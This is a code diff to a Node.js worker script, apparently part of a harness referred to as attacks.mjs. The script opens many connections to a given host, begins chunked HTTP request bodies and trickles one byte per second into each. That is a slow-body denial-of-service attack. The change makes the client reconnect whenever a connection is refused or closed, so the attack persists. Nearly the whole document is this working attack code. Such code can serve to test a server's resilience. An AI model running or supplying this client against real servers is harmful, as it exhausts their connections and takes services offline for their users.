@@ -1,5 +1,5 @@
-// A client that begins bodies without a length and sends a byte of each every second. A thread of its own, which ends
-// when it is terminated: see attacks.mjs.
+// A client that begins bodies without a length, sends a byte of each every second, and begins anew when one is refused.
+// A thread of its own, which ends when it is terminated: see attacks.mjs.
 import { connect } from 'node:net';
 import { workerData } from 'node:worker_threads';
 
@@ -15,9 +15,13 @@ const HEAD = [
   'Transfer-Encoding: chunked',
 ].join('\r\n');
 
-const sockets = Array.from({ length: bodies }, () => {
+const sockets = [];
+function begin(n) {
   const socket = connect(Number(port), hostname).on('error', () => undefined);
+  socket.on('close', () => setTimeout(begin, 10, n));
+  socket.resume();
   socket.write(`${HEAD}\r\n\r\n${FIRST_BYTES.toString(16)}\r\n${' '.repeat(FIRST_BYTES)}\r\n`);
-  return socket;
-});
+  sockets[n] = socket;
+}
+for (let n = 0; n < bodies; n++) begin(n);
 setInterval(() => sockets.forEach(socket => socket.writable && socket.write('1\r\n \r\n')), 1000);
